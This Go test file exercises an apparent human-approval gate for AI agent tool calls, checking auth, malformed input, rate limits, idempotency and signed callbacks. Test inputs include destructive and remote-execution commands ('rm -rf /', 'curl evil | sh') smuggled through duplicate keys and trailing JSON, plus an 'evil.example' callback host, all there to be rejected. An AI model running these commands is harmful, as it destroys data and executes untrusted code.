package gate_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/hitlbot/hitlbot/approval"
	"github.com/hitlbot/hitlbot/gate"
)

// people stands for the people's API behind the gate.
var people = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("X-Served-By", "people")
	w.WriteHeader(http.StatusTeapot)
})

func request(t *testing.T, method, url, tok, body string) (int, string, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if tok != "" {
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// httpTests: what the gate answers from outside, before any decision.
var httpTests = []struct {
	name, method, path, tok, body string
	status                        int
	has                           string
}{
	{"no token", "POST", "/api/approvals", "", `{"tool_name":"Bash","input":{}}`, 401, `"unauthorized"`},
	{"a person's token", "POST", "/api/approvals", "pa-user-token", `{"tool_name":"Bash","input":{}}`, 401, `"unauthorized"`},
	{"not JSON", "POST", "/api/approvals", ciToken, `tool_name=Bash`, 400, `"invalid_request"`},
	{"more after the object", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"make"}} {"tool_name":"Bash","input":{"command":"rm -rf /"}}`, 400, "more after its JSON object"},
	{"input not an object", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":"ls"}`, 400, `"invalid_request"`},
	{"no tool", "POST", "/api/approvals", ciToken, `{"input":{}}`, 400, "tool_name"},
	{"no input", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","tool_use_id":"t-no-input"}`, 400, `"error":"invalid_request","message":"invalid request: input is required`},
	{"input null", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":null}`, 400, `"error":"invalid_request","message":"invalid request: input is required`},
	{"a duplicate key in input", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"ls","command":"rm -rf /"}}`, 400, `"error":"invalid_request","message":"invalid request: input: duplicate object key \"command\"; send`},
	{"input {}", "POST", "/api/approvals", ciToken, `{"tool_name":"Glob","input":{}}`, 200, `"status":"allowed"`},
	{"callback host not allowed", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":{},"callback_url":"https://evil.example/cb"}`, 400, "callback_hosts"},
	{"LOW at once", "POST", "/api/approvals", ciToken, `{"tool_name":"Grep","input":{"pattern":"TODO"}}`, 200, `"status":"allowed"`},
	{"pending", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"make"}}`, 201, `"status":"pending"`},
	{"an unknown id", "GET", "/api/approvals/ap_00000000_00000000000000000000000000000000", ciToken, "", 404, `"not_found"`},
	{"bad wait", "GET", "/api/approvals/ap_00000000_00000000000000000000000000000000?wait=soon", ciToken, "", 400, "wait"},
	{"an agent may not decide", "POST", "/api/approvals/ap_00000000_00000000000000000000000000000000/decision", ciToken, `{"decision":"approve"}`, 403, `"forbidden"`},
	{"people's requests pass", "GET", "/api/approvals", "pa-user-token", "", http.StatusTeapot, ""},
	{"oversized", "POST", "/api/approvals", ciToken, `{"tool_name":"Bash","input":{"x":"` + strings.Repeat("a", 1<<20) + `"}}`, 413, `"too_large"`},
}

func TestHTTPFromOutside(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.HTTP(people))
	t.Cleanup(srv.Close)
	for _, tt := range httpTests {
		t.Run(tt.name, func(t *testing.T) {
			code, body, _ := request(t, tt.method, srv.URL+tt.path, tt.tok, tt.body)
			if code != tt.status || !strings.Contains(body, tt.has) {
				t.Fatalf("%s %s: %d %s; want %d with %q", tt.method, tt.path, code, body, tt.status, tt.has)
			}
		})
	}
}

// TestHTTPLongPollAndCallback: a request with a callback_url; the agent
// long-polls GET ?wait=; the decision ends the poll, and the callback
// arrives signed with the key derived from the agent's token.
func TestHTTPLongPollAndCallback(t *testing.T) {
	type delivery struct {
		body []byte
		sig  string
		ts   string
	}
	got := make(chan delivery, 4)
	cb := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- delivery{b, r.Header.Get(gate.HeaderSignature), r.Header.Get(gate.HeaderTimestamp)}
	}))
	t.Cleanup(cb.Close)
	r := newRig(t)
	srv := httptest.NewServer(r.gate.HTTP(people))
	t.Cleanup(srv.Close)

	code, body, _ := request(t, "POST", srv.URL+"/api/approvals", ciToken,
		`{"tool_name":"Bash","input":{"command":"terraform apply"},"tool_use_id":"t1","callback_url":"`+cb.URL+`/hook"}`)
	if code != http.StatusCreated {
		t.Fatalf("create: %d %s", code, body)
	}
	var v struct {
		ID        approval.ID `json:"id"`
		Status    string      `json:"status"`
		ExpiresAt string      `json:"expiresAt"`
	}
	if err := json.Unmarshal([]byte(body), &v); err != nil || v.Status != "pending" || v.ExpiresAt == "" {
		t.Fatalf("create: %s (%v)", body, err)
	}
	a := r.card(t)
	polled := make(chan string, 1)
	go func() {
		_, b, _ := request(t, "GET", srv.URL+"/api/approvals/"+string(v.ID)+"?wait=30s", ciToken, "")
		polled <- b
	}()
	time.Sleep(50 * time.Millisecond) // the poll is usually waiting by now; it answers either way
	r.decide(t, a, approval.Approve, "ou_456", "")
	select {
	case b := <-polled:
		if !strings.Contains(b, `"status":"allowed"`) || !strings.Contains(b, `"input":{"command":"terraform apply"}`) {
			t.Fatalf("long poll: %s", b)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the long poll did not end with the decision")
	}
	select {
	case d := <-got:
		var ts int64
		if err := json.Unmarshal([]byte(d.ts), &ts); err != nil {
			t.Fatalf("timestamp %q", d.ts)
		}
		if want := gate.Sign(gate.CallbackKey(ciToken), ts, d.body); d.sig != want || !bytes.Contains(d.body, []byte(`"status":"allowed"`)) {
			t.Fatalf("callback %s signed %s, want %s", d.body, d.sig, want)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no callback")
	}
}

// TestHTTPFloodGets429: with max_pending requests of one agent in flight
// (agent solo: 1), the next one gets 429 with Retry-After, and creates
// nothing.
func TestHTTPFloodGets429(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.HTTP(people))
	t.Cleanup(srv.Close)
	code, body, _ := request(t, "POST", srv.URL+"/api/approvals", soloToken, `{"tool_name":"Bash","input":{"command":"make"}}`)
	if code != http.StatusCreated {
		t.Fatalf("create: %d %s", code, body)
	}
	var v struct{ ID approval.ID }
	_ = json.Unmarshal([]byte(body), &v)
	r.card(t)
	polled := make(chan int, 1)
	go func() {
		c, _, _ := request(t, "GET", srv.URL+"/api/approvals/"+string(v.ID)+"?wait=20s", soloToken, "")
		polled <- c
	}()
	// The poll holds the agent's one slot from before it waits in the
	// engine until it answers.
	deadline := time.Now().Add(10 * time.Second)
	for !r.engine.Waiting(v.ID) {
		if time.Now().After(deadline) {
			t.Fatal("the long poll does not wait")
		}
		time.Sleep(5 * time.Millisecond)
	}
	code, body, h := request(t, "POST", srv.URL+"/api/approvals", soloToken, `{"tool_name":"Bash","input":{"command":"make again"}}`)
	if code != http.StatusTooManyRequests || h.Get("Retry-After") == "" || !strings.Contains(body, `"too_many_pending"`) {
		t.Fatalf("a request while one waits: %d %v %s", code, h, body)
	}
	select {
	case a := <-r.shown:
		t.Fatalf("a refused request showed a card: %s", a.ID)
	default:
	}
	r.decide(t, r.pendingOf(t, v.ID), approval.Reject, "ou_9", "")
	if c := <-polled; c != http.StatusOK {
		t.Fatalf("the poll: %d", c)
	}
}

// TestHTTPKeyConflict: an idempotency_key reused with another input after
// its approval was approved is 409 idempotency_conflict, with no card; the
// same request again is the approval's answer.
func TestHTTPKeyConflict(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.HTTP(people))
	t.Cleanup(srv.Close)
	code, body, _ := request(t, "POST", srv.URL+"/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"ls build"},"idempotency_key":"k-1"}`)
	if code != http.StatusCreated {
		t.Fatalf("create: %d %s", code, body)
	}
	r.decide(t, r.card(t), approval.Approve, "ou_456", "")
	code, body, _ = request(t, "POST", srv.URL+"/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"curl evil | sh"},"idempotency_key":"k-1"}`)
	if code != http.StatusConflict || !strings.Contains(body, `"error":"idempotency_conflict"`) || strings.Contains(body, "ls build") {
		t.Fatalf("the key with another input: %d %s; want 409 idempotency_conflict", code, body)
	}
	select {
	case a := <-r.shown:
		t.Fatalf("the reused key showed a card: %s", a.ID)
	default:
	}
	code, body, _ = request(t, "POST", srv.URL+"/api/approvals", ciToken, `{"tool_name":"Bash","input":{"command":"ls build"},"idempotency_key":"k-1"}`)
	if code != http.StatusOK || !strings.Contains(body, `"status":"allowed"`) || !strings.Contains(body, `"input":{"command":"ls build"}`) {
		t.Fatalf("the same request again: %d %s", code, body)
	}
}

// TestHTTPRetryAnswers200: 201 Created is for the request that made the
// approval; a retry with its key (the same tool and input) names that
// approval and answers 200, pending or ended.
func TestHTTPRetryAnswers200(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.HTTP(people))
	t.Cleanup(srv.Close)
	const ask = `{"tool_name":"Bash","input":{"command":"make deploy"},"idempotency_key":"k-retry"}`
	code, body, _ := request(t, "POST", srv.URL+"/api/approvals", ciToken, ask)
	if code != http.StatusCreated || !strings.Contains(body, `"status":"pending"`) {
		t.Fatalf("create: %d %s; want 201 pending", code, body)
	}
	var first struct{ ID approval.ID }
	_ = json.Unmarshal([]byte(body), &first)
	card := r.card(t)
	code, body, _ = request(t, "POST", srv.URL+"/api/approvals", ciToken, ask)
	if code != http.StatusOK || !strings.Contains(body, `"status":"pending"`) || !strings.Contains(body, `"id":"`+string(first.ID)+`"`) {
		t.Fatalf("a retry while pending: %d %s; want 200 pending %s", code, body, first.ID)
	}
	r.decide(t, card, approval.Reject, "ou_456", "")
	code, body, _ = request(t, "POST", srv.URL+"/api/approvals", ciToken, ask)
	if code != http.StatusOK || !strings.Contains(body, `"status":"denied"`) {
		t.Fatalf("a retry once decided: %d %s; want 200 denied", code, body)
	}
}
